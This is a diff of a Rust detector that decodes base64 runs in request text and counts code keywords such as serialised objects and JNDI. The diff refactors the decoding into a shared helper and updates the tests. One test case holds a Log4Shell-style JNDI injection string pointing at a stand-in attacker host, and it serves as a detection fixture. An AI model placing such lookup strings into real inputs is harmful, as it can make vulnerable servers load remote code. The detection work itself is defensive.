@@ -40,27 +40,18 @@ const KEYWORD_BUDGET: usize = 4096;
 /// serialised objects, JNDI) in the decoded text of the base64 runs of `text` (runs of 16
 /// characters or more, the first 1,024 characters of each, 4,096 in all). Random tokens decode
 /// to bytes that almost never spell a keyword of four letters or more, which is all this counts.
-pub fn decoded_code_keywords(text: &str) -> usize {
+pub fn decoded_code_keywords(text: &[u8]) -> usize {
     let mut budget = KEYWORD_BUDGET;
     let mut found = keywords::Found::default();
-    for run in runs(text.as_bytes(), MIN_KEYWORD_RUN) {
+    for run in runs(text, MIN_KEYWORD_RUN) {
         if budget == 0 {
             break;
         }
         let take = run.len().min(KEYWORD_CHARS).min(budget) / 4 * 4;
         budget -= take;
         let mut decoded = [0u8; KEYWORD_CHARS / 4 * 3];
-        let mut len = 0;
-        for quad in run[..take].chunks_exact(4) {
-            let mut n = 0u32;
-            for &c in quad {
-                n = (n << 6) | u32::from(sextet(c).unwrap_or(0));
-            }
-            for b in [(n >> 16) as u8, (n >> 8) as u8, n as u8] {
-                decoded[len] = b.to_ascii_lowercase();
-                len += 1;
-            }
-        }
+        let len = decode_into(&run[..take], &mut decoded);
+        decoded[..len].make_ascii_lowercase();
         found.mark_decoded(&decoded[..len]);
     }
     found.decoded_count()
@@ -89,16 +80,22 @@ fn sextet(b: u8) -> Option<u8> {
 /// of them there are (whole quads only); no allocation on the request path.
 fn decode_head(run: &[u8]) -> ([u8; HEAD / 4 * 3], usize) {
     let mut out = [0u8; HEAD / 4 * 3];
+    let len = decode_into(&run[..run.len().min(HEAD)], &mut out);
+    (out, len)
+}
+
+/// Decodes the whole quads of `chars` (base64 characters of either alphabet) into `out`, as
+/// many as fit, and returns the number of bytes written.
+fn decode_into(chars: &[u8], out: &mut [u8]) -> usize {
     let mut len = 0;
-    for quad in run[..run.len().min(HEAD)].chunks_exact(4) {
-        let mut n = 0u32;
-        for &c in quad {
-            n = (n << 6) | u32::from(sextet(c).unwrap_or(0));
-        }
-        out[len..len + 3].copy_from_slice(&[(n >> 16) as u8, (n >> 8) as u8, n as u8]);
+    for (quad, bytes) in chars.chunks_exact(4).zip(out.chunks_exact_mut(3)) {
+        let n = quad
+            .iter()
+            .fold(0u32, |n, &c| (n << 6) | u32::from(sextet(c).unwrap_or(0)));
+        bytes.copy_from_slice(&[(n >> 16) as u8, (n >> 8) as u8, n as u8]);
         len += 3;
     }
-    (out, len)
+    len
 }
 
 fn is_object_header(head: &[u8]) -> bool {
@@ -204,11 +201,14 @@ mod tests {
             ("${jndi:ldap://evil.example/a}", 2),
         ] {
             let encoded = b64(text.as_bytes());
-            assert!(decoded_code_keywords(&encoded) >= at_least, "{text}");
+            assert!(
+                decoded_code_keywords(encoded.as_bytes()) >= at_least,
+                "{text}"
+            );
             let url_safe = encoded.replace('+', "-").replace('/', "_");
-            assert!(decoded_code_keywords(&format!("v={url_safe}")) >= at_least);
+            assert!(decoded_code_keywords(format!("v={url_safe}").as_bytes()) >= at_least);
             // The plain text itself is no base64 run.
-            assert_eq!(decoded_code_keywords(text), 0, "{text}");
+            assert_eq!(decoded_code_keywords(text.as_bytes()), 0, "{text}");
         }
     }
 
@@ -220,7 +220,7 @@ mod tests {
             "PHNhbWxwOlJlc3BvbnNlIHhtbG5zOnNhbWxwPSJ1cm46b2FzaXM6bmFtZXM6dGM6U0FNTDoyLjA6cHJvdG9jb2wiPg==",
             &b64(b"Hi team, the quarterly report is attached. Regards, Ana"),
         ] {
-            assert_eq!(decoded_code_keywords(text), 0, "{text}");
+            assert_eq!(decoded_code_keywords(text.as_bytes()), 0, "{text}");
         }
     }
 
@@ -244,7 +244,7 @@ mod tests {
     #[test]
     fn random_tokens_rarely_spell_code_keywords() {
         let hits = random_token_hits(0x2545_f491_4f6c_dd1d, 20_000, 96, |t| {
-            decoded_code_keywords(t) > 0
+            decoded_code_keywords(t.as_bytes()) > 0
         });
         assert!(hits <= 2, "{hits} random tokens spelled a code keyword");
     }
